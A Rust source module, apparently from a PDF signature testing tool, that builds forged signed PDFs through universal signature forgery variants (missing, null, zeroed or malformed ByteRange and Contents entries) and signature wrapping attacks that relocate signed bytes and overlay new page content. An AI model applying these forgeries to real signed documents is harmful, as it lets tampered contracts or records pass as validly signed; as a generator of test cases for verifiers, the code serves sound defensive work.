//! Forgeries of the signature itself: universal signature forgery (entries missing or wrong) and signature wrapping
//! (the signed bytes are moved, and others put in their place).

use super::update::{Update, last};
use super::{Attack, OVERLAY, Target, content};
use lopdf::Object;

pub const FORGERIES: &[(&str, Attack)] = &[
    ("forgery-byte-range-missing", |f, t| entry(f, t, "ByteRange", None)),
    ("forgery-byte-range-null", |f, t| {
        entry(f, t, "ByteRange", Some(Object::Null))
    }),
    ("forgery-byte-range-empty", |f, t| {
        entry(f, t, "ByteRange", Some(Object::Array(vec![])))
    }),
    ("forgery-byte-range-negative", |f, t| {
        range(f, t, |[a, b, c, d]| [a, b, -c, d])
    }),
    ("forgery-byte-range-zero", |f, t| range(f, t, |_| [0; 4])),
    ("forgery-byte-range-huge", |f, t| {
        range(f, t, |[a, b, c, _]| [a, b, c, i64::MAX])
    }),
    ("forgery-byte-range-overlapping", |f, t| {
        range(f, t, |[a, b, _, d]| [a, b, 0, d])
    }),
    ("forgery-byte-range-not-from-start", |f, t| {
        range(f, t, |[_, b, c, d]| [1, b - 1, c, d])
    }),
    ("forgery-contents-missing", |f, t| entry(f, t, "Contents", None)),
    ("forgery-contents-null", |f, t| {
        entry(f, t, "Contents", Some(Object::Null))
    }),
    ("forgery-contents-empty", |f, t| {
        entry(f, t, "Contents", Some(Object::string_literal("")))
    }),
    ("forgery-contents-in-place-zero", zero_contents),
    ("forgery-byte-range-misspelled-in-place", misspelled),
    ("wrapping-second-range-moved", wrapped),
    ("wrapping-second-range-in-stream", wrapped_in_stream),
    ("wrapping-gap-widened", widened),
    ("signature-in-two-fields", copied),
];

/// The signature dictionary again, with one entry removed or replaced.
fn entry(file: &[u8], target: &Target, key: &str, value: Option<Object>) -> Option<Vec<u8>> {
    super::change(file, target.signature, |dict| match value {
        Some(value) => dict.set(key, value),
        None => {
            dict.remove(key.as_bytes());
        }
    })
}

fn byte_range(file: &[u8], target: &Target) -> Option<[i64; 4]> {
    let dict = Update::of(file).dict(target.signature);
    let items = dict.get(b"ByteRange").ok()?.as_array().ok()?;
    let numbers: Vec<i64> = items.iter().map(|item| item.as_i64().unwrap()).collect();
    numbers.try_into().ok()
}

fn range(file: &[u8], target: &Target, forge: impl Fn([i64; 4]) -> [i64; 4]) -> Option<Vec<u8>> {
    let forged = forge(byte_range(file, target)?);
    entry(file, target, "ByteRange", Some(super::numbers(&forged)))
}

/// The signature value is overwritten with zeros where it stands.
fn zero_contents(file: &[u8], target: &Target) -> Option<Vec<u8>> {
    let [_, first, second, _] = byte_range(file, target)?;
    let mut file = file.to_vec();
    file[first as usize + 1..second as usize - 1].fill(b'0');
    Some(file)
}

fn misspelled(file: &[u8], _: &Target) -> Option<Vec<u8>> {
    let at = last(file, b"/ByteRange")?;
    let mut file = file.to_vec();
    file[at + 9] = b'X';
    Some(file)
}

/// Signature wrapping: the second signed range is copied to the end, and the byte range made to point there.
fn wrapped(file: &[u8], target: &Target) -> Option<Vec<u8>> {
    let [_, first, second, rest] = byte_range(file, target)?;
    let page = content(file, target)?;
    let mut update = Update::of(file);
    update.stream(page, "", OVERLAY);
    let mut signature = update.dict(target.signature);
    let moved = update.at() + 200_000; // room for the update itself
    signature.set("ByteRange", super::numbers(&[0, first, moved as i64, rest]));
    update.object(target.signature, signature);
    let mut forged = update.finish();
    forged.resize(moved, b'\n');
    forged.extend_from_slice(&file[second as usize..(second + rest) as usize]);
    Some(forged)
}

/// Signature wrapping with a sound end: the second signed range hides in a stream before the forged update.
fn wrapped_in_stream(file: &[u8], target: &Target) -> Option<Vec<u8>> {
    let [_, first, second, rest] = byte_range(file, target)?;
    let page = content(file, target)?;
    let mut update = Update::of(file);
    let carrier = update.number();
    let header = format!("{carrier} 0 obj\n<< /Length {rest} >>\nstream\n");
    let at = update.at();
    update.row(carrier, 0, at);
    update.raw(header.as_bytes());
    update.raw(&file[second as usize..(second + rest) as usize]);
    update.raw(b"\nendstream\nendobj\n");
    update.stream(page, "", OVERLAY);
    let mut signature = update.dict(target.signature);
    let moved = (at + header.len()) as i64;
    signature.set("ByteRange", super::numbers(&[0, first, moved, rest]));
    update.object(target.signature, signature);
    Some(update.finish())
}

/// The byte range leaves out an object that follows the signature value in the same place.
fn widened(file: &[u8], target: &Target) -> Option<Vec<u8>> {
    range(file, target, |[a, b, c, d]| [a, b, c + 20, d - 20])
}

/// A second field shows the signature of the first one.
fn copied(file: &[u8], target: &Target) -> Option<Vec<u8>> {
    let mut update = Update::of(file);
    let number = update.number();
    let fields = super::fields_with(&update, target, number)?;
    update.change(target.form, |form| form.set("Fields", fields));
    let text = format!(
        "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Copy) /Rect [0 0 0 0] /V {} 0 R >>",
        target.signature
    );
    update.text(number, 0, &text);
    Some(update.finish())
}
